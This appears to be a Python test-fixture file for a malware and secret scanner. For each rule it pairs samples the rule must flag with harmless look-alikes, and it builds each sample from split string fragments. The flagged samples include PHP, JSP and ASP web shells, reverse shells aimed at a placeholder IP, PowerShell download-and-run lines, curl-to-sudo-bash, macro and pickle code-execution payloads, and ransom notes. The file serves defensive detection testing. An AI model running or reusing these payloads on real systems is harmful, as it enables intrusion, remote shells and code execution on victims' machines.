"""For each starter rule something it must find and something alike that it must not. Put together here at run time,
from pieces that do nothing: no file of ours holds what another scanner would take for the real thing.
"""

from __future__ import annotations

import base64
import io
import pickletools
import random
import zipfile

HOST = "192.0.2.7"  # documentation only (RFC 5737)
OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)
LONG = base64.b64encode("あいうえおかきくけこさしすせそ".encode("utf-16-le") * 3).decode()
PEM_BODY = "A" * 64
ONION = "a" * 56 + ".onion"


def j(*parts: str) -> bytes:
    return "".join(parts).encode()


def pe() -> bytes:
    return b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(200)


def pickled(module: bytes, name: bytes) -> bytes:
    """Opcodes alone, as text; nothing is ever loaded."""
    made = b"\x80\x02c" + module + b"\n" + name + b"\nX\x01\0\0\0x\x85R."
    assert list(pickletools.genops(made))
    return made


def stacked(module: bytes, name: bytes) -> bytes:
    made = b"\x80\x04\x8c" + bytes([len(module)]) + module + b"\x94\x8c" + bytes([len(name)]) + name + b"\x94\x93."
    assert list(pickletools.genops(made))
    return made


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


EICAR = j("X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!", "$H+H*")
RELS = '<Relationship Type="http://schemas.example/officeDocument/2006/relationships/attachedTemplate" Target="{}"{}/>'
NOISE = random.Random(8).randbytes(20_000)
LINK = b'<Relationship Type=".../hyperlink" Target="https://192.0.2.7/" TargetMode="External"/>'

# rule -> (name, content) that it must find.
BAD: dict[str, list[tuple[str, bytes]]] = {
    "scrambled_document": [("台帳.xlsx", NOISE), ("図面.PDF", NOISE), ("写真.jpg", NOISE), ("旧い文書.doc", NOISE)],
    "eicar_test_file": [("e.com", EICAR), ("e.txt", EICAR + b"\n")],
    "web_shell_php": [
        ("a.php", j("<?php ", "eval", '($_POST["x"]); ?>')),
        ("b.php", j("<?= @system", " ( $_GET['c']) ?>")),
        ("c.php", j("<?php eval(", "base64_decode($_COOKIE[0]));")),
        ("d.php", j("<?php eval(gzin", "flate(base64_decode('eJw=')));")),
        ("e.jpg", b"\xff\xd8\xff\xe0" + bytes(64) + j("<?php echo `", "$_REQUEST[q]`;")),
    ],
    "web_shell_jsp": [("a.jsp", j("<% Runtime.getRuntime()", '.exec(request.getParameter("c")); %>'))],
    "web_shell_asp": [
        ("a.asp", j("<% ev", 'al request("p") %>')),
        ("b.aspx", j("<%@ Page %><% Process.Sta", 'rt("x", Request["c"]); %>')),
    ],
    "powershell_encoded": [
        ("a.bat", j("power", "shell.exe -nop -w hidden -e", "nc ", LONG)),
        ("b.vbs", j("Run power", "shell -EncodedCommand ", LONG).decode().encode("utf-16-le")),
    ],
    "powershell_download_and_run": [
        ("a.ps1", j("I", "EX (New-Object Net.WebClient).Download", f"String('http://{HOST}/a')")),
        ("b.ps1", j(f"iwr http://{HOST}/a.ps1 | ", "iex")),
    ],
    "powershell_hidden": [
        ("a.cmd", j("power", "shell -WindowStyle Hid", "den -ExecutionPolicy By", "pass -File a.ps1"))
    ],
    "windows_tool_fetches": [
        ("a.bat", j("cert", f"util -urlcache -split -f http://{HOST}/a a.exe")),
        ("b.bat", j("bits", f"admin /transfer x /download http://{HOST}/a c:\\a.exe")),
        ("c.txt", j("ms", f"hta http://{HOST}/a.hta")),
        ("d.txt", j("regs", f"vr32 /s /n /u /i:http://{HOST}/a.sct x.dll")),
    ],
    "reverse_shell": [
        ("a.sh", j("ba", f"sh -i >& /dev/tcp/{HOST}/4444 0>&1")),
        ("b.sh", j("ex", f"ec 5<>/dev/tcp/{HOST}/4444")),
        ("c.sh", j("n", f"c {HOST} 4444 -e /bin/", "sh")),
        ("d.sh", j("mk", "fifo /tmp/p; cat /tmp/p | sh -i | n", f"c {HOST} 4444 > /tmp/p")),
        (
            "e.py",
            j("s=socket.so", "cket();s.connect((h,p));os.du", "p2(s.fileno(),0);pty.sp", 'awn("sh")').replace(
                b"socket()", b"socket("
            ),
        ),
    ],
    "fetched_into_a_shell": [("a.md", j(f"curl -fsSL https://{HOST}/install.sh", " | sudo bash"))],
    "macro_runs_by_itself": [
        ("a.doc", OLE + j("Sub Auto", 'Open()\n CreateObject("WScri', 'pt.Shell")')),
        (
            "b.docm",
            zipped(
                {
                    "[Content_Types].xml": b"<x/>",
                    "word/vbaProject.bin": OLE + j("Document_", "Open\0URLDownload", "ToFileA"),
                }
            ),
        ),
        ("c.bas", j("Sub Workbook_", 'Open()\nGetObject("winmg', 'mts:")\nEnd Sub')),
    ],
    "macro_in_document": [("a.xlsm", zipped({"xl/vbaProject.bin": OLE}))],
    "document_fetches_template": [
        (
            "a.docx",
            zipped(
                {
                    "word/_rels/settings.xml.rels": RELS.format(
                        f"http://{HOST}/a.dotm", ' TargetMode="External"'
                    ).encode()
                }
            ),
        ),
    ],
    "document_dde": [
        (
            "a.docx",
            zipped(
                {"word/document.xml": j("<w:instrText> DDE", 'AUTO c:\\\\windows\\\\system32\\\\x "/k" </w:instrText>')}
            ),
        ),
    ],
    "csv_calls_program": [("a.csv", j("名前,値\n見本,=c", "md|' /C x'!A0\n"))],
    "pdf_starts_program": [
        ("a.pdf", j("%PDF-1.7\n1 0 obj <</Type /Action /S /Lau", "nch /F (x)>>")),
        ("b.pdf", j("%PDF-1.7\n<</OpenAction 2 0 R>> <</S /JavaSc", "ript /JS (this.exportData", "Object({}))>>")),
    ],
    "rtf_embedded_object": [("a.rtf", j("{\\rtf1{\\object\\objauto\\objup", "date{\\*\\obj", "data 0105}}}"))],
    "program_named_as_document": [
        ("決算.pdf", pe()),
        ("photo.jpg", b"\x7fELF\x02\x01\x01" + bytes(100)),
        ("a.zip", zipped({"請求書.docx": pe()})),
    ],
    "double_ending": [
        ("見積書.pdf.exe", pe()),
        ("見積書.pdf          .scr", b"x"),
        ("a.zip", zipped({"x/a.docx.js": b"x"})),
    ],
    "name_turned_around": [("請求書\u202efdp.exe", b"x")],
    "shortcut_calls_shell": [
        (
            "a.lnk",
            bytes.fromhex("4c00000001140200")
            + bytes(100)
            + "\\powers".encode("utf-16-le")
            + "hell.exe".encode("utf-16-le"),
        ),
    ],
    "gguf_without_magic": [("model.gguf", b"PK\x03\x04 not a model"), ("model.GGUF", b"x")],
    "safetensors_without_header": [("model.safetensors", pickled(b"x", b"y") + bytes(20))],
    "pickle_runs_code": [
        ("model.pkl", pickled(b"os", b"system")),
        ("model.bin", stacked(b"subprocess", b"Popen")),
        ("model.pt", zipped({"archive/data.pkl": stacked(b"builtins", b"eval")})),
        ("x.ckpt", pickled(b"runpy", b"run_path")),
    ],
    "pickle_among_models": [("model.pkl", b"\x80\x04\x95\x05\0\0\0\0\0\0\0K\x01.")],
    "ransom_note_english": [
        (
            "README.txt",
            j(
                "ATTENTION! All your files have been encr",
                "ypted. Buy the decryptor for Bitcoin. Use Tor Browser: ",
                ONION,
                ". Do not rename files. If you do not pay we publish your data.",
            ),
        ),
    ],
    "ransom_note_japanese": [
        (
            "お読みください.txt",
            j(
                "重要なお知らせ\nあなたの会社のファイルはすべて暗号",
                "化されました。復号するにはビットコインで支払ってください。"
                "期限を過ぎるとデータを公開します。Tor ブラウザで ",
                ONION,
            ),
        ),
    ],
    "ransom_note_name": [("HOW_TO_DECRYPT.txt", b"x"), ("!restore-my-files.html", b"x")],
    "miner_pool_address": [("run.sh", j("./x -o strat", "um+tcp://pool.example:3333 -u w"))],
    "miner_settings": [("config.json", j('{"donate-', 'level": 1, "po', 'ols": [{"url": "x"}]}'))],
    "private_key": [
        ("id_rsa", j("-----BEGIN OPENSSH PRIV", "ATE KEY-----\n", PEM_BODY, "\n")),
        ("k.pem", j("-----BEGIN PRIV", "ATE KEY-----\r\n", PEM_BODY)),
        ("k.ppk", j("PuTTY-User-Key-", "File-3: ssh-ed25519\r\nEncryption: none\r\n")),
    ],
    "private_key_encrypted": [
        ("k.pem", j("-----BEGIN ENCRYPTED PRIV", "ATE KEY-----\n", PEM_BODY)),
        ("k.ppk", j("PuTTY-User-Key-", "File-2: ssh-rsa\nEncryption: aes256-cbc\n")),
    ],
    "key_store": [("office.pfx", bytes.fromhex("3082") + bytes(100))],
    "cloud_access_key": [
        ("env.txt", j("AWS_ACCESS_KEY_ID=AK", "IA", "A" * 16, "\naws_secret_access_key = ", "b" * 40, "\n")),
        ("b.config", j("DefaultEndpointsProtocol=https;Account", "Key=", "c" * 86, "==")),
    ],
}

# rule -> what looks like it and is in order.
GOOD: dict[str, list[tuple[str, bytes]]] = {
    "scrambled_document": [
        ("a.xlsx", b"PK\x03\x04" + NOISE),
        ("b.docx", OLE + NOISE),  # with a passphrase
        ("c.pdf", b"%PDF-1.7\n" + NOISE),
        ("d.jpg", b"\xff\xd8\xff\xe0" + NOISE),
        ("e.png", b"RIFF" + NOISE),  # another picture's ending
        ("f.bin", NOISE),
        ("g.docx", b"x" * 5000),
        ("h.docx", NOISE[:4000]),
    ],
    "eicar_test_file": [("a.txt", "EICAR の試験用ファイルについての説明".encode()), ("b.bin", bytes(2000) + EICAR)],
    "web_shell_php": [
        ("a.php", b"<?php echo htmlspecialchars($_POST['x']); system('ls'); ?>"),
        ("b.md", j("eval", "($_POST['x']) と書いてはいけません")),
        ("c.php", b"<?php $d = base64_decode($row['d']); ?>"),
    ],
    "web_shell_jsp": [
        ("a.jsp", b'<% out.print(request.getParameter("c")); %>'),
        ("B.java", b'Runtime.getRuntime().exec("ls");'),
    ],
    "web_shell_asp": [("a.asp", b'<% Response.Write Server.HTMLEncode(Request("p")) %>')],
    "powershell_encoded": [
        ("a.bat", b"powershell -NoProfile -File backup.ps1 -Encoding utf8"),
        ("b.txt", LONG.encode()),
        ("c.bat", j("powershell -e", "nc short")),
    ],
    "powershell_download_and_run": [
        ("a.ps1", b"Invoke-WebRequest http://192.0.2.7/a.msi -OutFile a.msi"),
        ("b.ps1", b"Invoke-Expression $x"),
    ],
    "powershell_hidden": [
        ("a.cmd", b"powershell -WindowStyle Hidden -File a.ps1"),
        ("b.cmd", b"powershell -ExecutionPolicy Bypass -File a.ps1"),
    ],
    "windows_tool_fetches": [
        ("a.bat", b"certutil -hashfile a.zip SHA256"),
        ("b.txt", b"bitsadmin /list"),
        ("c.txt", b"regsvr32 /s a.dll"),
    ],
    "reverse_shell": [
        ("a.sh", b"bash -i\nnc -l 80\nexec 3<>/dev/null"),
        ("b.sh", b"nc -zv host 22 # /bin/sh"),
        ("c.py", b"s = socket.socket()\ns.bind(('127.0.0.1', 0))"),
    ],
    "fetched_into_a_shell": [("a.md", b"curl -O https://192.0.2.7/install.sh\nless install.sh | head")],
    "macro_runs_by_itself": [
        ("a.doc", OLE + j("Sub Auto", "Open()\n MsgBox 1")),
        ("b.doc", OLE + b"WScript.Shell"),
        ("c.md", j("Auto", "Open と WScri", "pt.Shell の組は危ない")),
    ],
    "macro_in_document": [("a.xlsx", zipped({"xl/workbook.xml": b"<x/>"})), ("vbaProject.bin", b"x")],
    "document_fetches_template": [
        (
            "a.docx",
            zipped(
                {
                    "word/_rels/settings.xml.rels": RELS.format(
                        "file:///C:/Templates/a.dotx", ' TargetMode="External"'
                    ).encode()
                }
            ),
        ),
        (
            "b.docx",
            zipped({"word/_rels/document.xml.rels": LINK}),
        ),
    ],
    "document_dde": [("a.docx", zipped({"word/document.xml": "<w:t>DDE の設定を見直す</w:t>".encode()}))],
    "csv_calls_program": [("a.csv", "名前,値\n見本,=SUM(A1:A2)\ncmd,説明|表\n".encode())],
    "pdf_starts_program": [
        ("a.pdf", b"%PDF-1.7\n<</OpenAction [3 0 R /Fit]>>"),
        ("b.pdf", b"%PDF-1.7\n<</S /JavaScript /JS (a=1)>>"),
    ],
    "rtf_embedded_object": [("a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")],
    "program_named_as_document": [
        ("setup.exe", pe()),
        ("a.txt", b"MZ is how a program begins"),
        ("b.pdf", b"%PDF-1.7"),
        ("c.txt", b"MZ" + b"\xff" * 100),
    ],
    "double_ending": [("見積書.pdf", b"x"), ("v1.2.exe", b"x"), ("a.txt.gz", b"x"), ("report.docx.js.md", b"x")],
    "name_turned_around": [("請求書.pdf", b"x"), ("العقد.pdf", b"x")],
    "shortcut_calls_shell": [
        ("a.lnk", bytes.fromhex("4c00000001140200") + bytes(100) + "\\notepad.exe".encode("utf-16-le"))
    ],
    "gguf_without_magic": [("model.gguf", b"GGUF\x03\0\0\0"), ("notes-on.gguf.txt", b"x"), ("empty.gguf", b"")],
    "safetensors_without_header": [("model.safetensors", (2).to_bytes(8, "little") + b"{}")],
    "pickle_runs_code": [
        ("model.pkl", pickled(b"collections", b"OrderedDict")),
        ("a.py", j("import subprocess\nsubprocess", ".run(['ls'])\n")),
        ("x.pt", zipped({"archive/data.pkl": stacked(b"torch._utils", b"_rebuild_tensor_v2")})),
    ],
    "pickle_among_models": [("a.pkl", b"text"), ("b.png", b"\x80\x04x")],
    "ransom_note_english": [
        (
            "policy.txt",
            b"All your data are encrypted at rest. Ask IT for the decryption key. Payment of the ransom is forbidden.",
        ),
        ("news.txt", b"A company was attacked. The attackers wanted bitcoin and threatened to publish the data."),
    ],
    "ransom_note_japanese": [
        ("手順.txt", "ファイルは暗号化されています。復号の鍵は情報システム部にあります。".encode()),
        ("記事.txt", "攻撃者は身代金をビットコインで要求し、支払わなければ公開すると脅した。".encode()),
    ],
    "ransom_note_name": [("how-to-restore-a-backup.txt", b"x" * 70_000), ("readme.md", b"x"), ("復旧の手順.txt", b"x")],
    "miner_pool_address": [("a.md", "採掘の通信(stratum)を止める規則".encode())],
    "miner_settings": [("config.json", b'{"pools": [{"name": "db", "size": 5}], "level": 1}')],
    "private_key": [
        ("k.pub", b"-----BEGIN PUBLIC KEY-----\n" + PEM_BODY.encode()),
        ("a.md", j("`-----BEGIN PRIV", "ATE KEY-----` の行を探す")),
        ("k.pem", j("-----BEGIN ENCRYPTED PRIV", "ATE KEY-----\n", PEM_BODY)),
    ],
    "private_key_encrypted": [("k.pem", j("-----BEGIN PRIV", "ATE KEY-----\n", PEM_BODY))],
    "key_store": [("a.pfx", b"text"), ("b.der", bytes.fromhex("3082"))],
    "cloud_access_key": [
        ("a.md", j("AK", "IA", "EXAMPLE の形の ID は秘密ではない")),
        ("b.txt", j("AK", "IA", "A" * 16)),
    ],
}
